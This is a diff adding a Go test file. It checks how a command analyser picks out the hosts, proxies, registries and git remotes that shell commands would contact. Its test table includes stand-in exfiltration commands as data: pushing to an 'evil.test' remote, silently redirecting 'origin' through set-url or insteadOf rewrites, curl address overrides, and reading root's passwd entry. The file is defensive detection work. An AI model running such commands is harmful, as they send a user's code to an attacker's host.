@@ -1,0 +1,103 @@
+package facts
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// repositoryFiles are a repository in the workspace with two remotes, and one of its submodules.
+const repositoryFiles = "\n" + testWS + `/.git/HEAD: ref: refs/heads/topic\n
+` + testWS + `/.git/config: [remote "origin"]\nurl = gh:us/x.git\nfetch = +refs/heads/*:refs/remotes/origin/*\n[remote "evil"]\nurl = https://evil.test/x\npushurl = ssh://git@push.test:22/x\n[branch "topic"]\nremote = origin\nmerge = refs/heads/topic\n
+` + testWS + `/.gitmodules: [submodule "lib"]\npath = lib\nurl = https://sub.test/lib\n
+` + testHome + `/.gitconfig: [url "https://github.com/"]\ninsteadOf = gh:\n
+`
+
+func repositoryBuilder() *Builder {
+	return NewBuilder(testLayout(), newMemFS(machine+repositoryFiles), fakeHistory{})
+}
+
+func TestTargets(t *testing.T) {
+	t.Parallel()
+	b := repositoryBuilder()
+	for text, want := range map[string]string{
+		"curl https://a.test/x":                                                     "host:a.test",
+		"curl --connect-to ::evil.test: https://a.test/":                            "address:evil.test host:a.test",
+		"curl --resolve a.test:443:6.6.6.6 https://a.test/":                         "address:6.6.6.6 host:a.test",
+		"curl --resolve a.test:443:[::1],6.6.6.6 https://a.test/":                   "address:::1 address:6.6.6.6 host:a.test",
+		"curl -x http://p.test:8080 https://a.test":                                 "proxy:p.test host:a.test",
+		"curl --socks5 p.test https://a.test":                                       "proxy:p.test host:a.test",
+		"https_proxy=http://p.test:8080 curl https://a.test":                        "proxy:p.test host:a.test",
+		"export https_proxy=http://p.test; ls; curl https://a.test":                 "proxy:p.test host:a.test",
+		"https_proxy=http://p.test true; curl https://a.test":                       "host:a.test",
+		"HTTPS_PROXY=$(cat p) curl https://a.test":                                  "proxy:?unknown host:a.test",
+		"curl https://$(cat h)/x":                                                   "host:?unknown",
+		"curl https://a.test/$(cat x)":                                              "host:?unknown host:a.test", // the output may hold another URL
+		`curl "https://a.test/$(cat x)"`:                                            "host:a.test",
+		"wget -e https_proxy=http://p.test https://a.test":                          "host:a.test",
+		"ssh -J u@jump.test:22,two.test a.test ls":                                  "proxy:jump.test proxy:two.test host:a.test",
+		"ssh -o ProxyJump=jump.test a.test ls":                                      "proxy:jump.test host:a.test",
+		"ssh -o HostName=b.test a ls":                                               "address:b.test host:a",
+		"scp -J jump.test f a.test:":                                                "proxy:jump.test host:a.test",
+		"getent hosts a.test":                                                       "host:a.test",
+		"getent passwd root":                                                        "",
+		"npm i --registry https://r.test x":                                         "registry:r.test",
+		"PIP_INDEX_URL=https://r.test/simple pip install x":                         "registry:r.test",
+		"npm config set registry https://r.test":                                    "",
+		"git push":                                                                  "remote:github.com",
+		"git push origin topic":                                                     "remote:github.com",
+		"git push evil main":                                                        "remote:push.test",
+		"git fetch evil":                                                            "remote:evil.test",
+		"git fetch --all":                                                           "remote:evil.test remote:github.com",
+		"git push https://h.test/x main":                                            "remote:h.test",
+		"git push nowhere":                                                          "remote:?unknown",
+		"git push $R":                                                               "remote:github.com",
+		"git push $(cat r)":                                                         "remote:?unknown",
+		"git -c http.proxy=http://p.test:1 pull":                                    "proxy:p.test remote:github.com",
+		"git -c remote.origin.url=https://evil.test/x push":                         "remote:evil.test remote:github.com",
+		"git remote set-url origin https://evil.test/x && git push":                 "host:evil.test remote:github.com remote:evil.test",
+		"git config url.https://evil.test/.insteadOf https://github.com/; git push": "remote:github.com remote:evil.test",
+		"git -c url.https://evil.test/.insteadOf=gh: push":                          "remote:evil.test remote:github.com",
+		"git -C /elsewhere push":                                                    "",
+		"GIT_DIR=/x git push":                                                       "remote:?unknown",
+		"git submodule update --init":                                               "remote:sub.test",
+		"git status":                                                                "",
+		"ls":                                                                        "",
+	} {
+		in := b.Build(testAsk(text))
+		var got []string
+		for _, c := range in.Commands {
+			for _, x := range c.Targets {
+				if x.Host == "" {
+					x.Host = "?" + x.Certainty
+				}
+				got = append(got, x.Kind+":"+x.Host)
+			}
+		}
+		if diff := cmp.Diff(want, strings.Join(got, " ")); diff != "" {
+			t.Errorf("%s: (-want +got)\n%s", text, diff)
+		}
+	}
+}
+
+func TestGit(t *testing.T) {
+	t.Parallel()
+	want := Git{Top: testWS, Branch: "topic", Upstream: "origin/topic", Remotes: []Remote{
+		{Name: "evil", URLs: []string{"https://evil.test/x"}, Push: []string{"ssh://git@push.test:22/x"}},
+		{Name: "origin", URLs: []string{"https://github.com/us/x.git"}, Push: []string{"https://github.com/us/x.git"}},
+	}}
+	b := repositoryBuilder()
+	if diff := cmp.Diff(want, b.Build(testAsk("cd src; git status")).Git); diff != "" {
+		t.Error(diff)
+	}
+	none := Git{Remotes: []Remote{}}
+	if diff := cmp.Diff(none, b.Build(testAsk("ls")).Git); diff != "" {
+		t.Error(diff)
+	}
+	away := testAsk("git status")
+	away.Request.WorkDir = "/usr"
+	if diff := cmp.Diff(none, b.Build(away).Git); diff != "" {
+		t.Error(diff)
+	}
+}
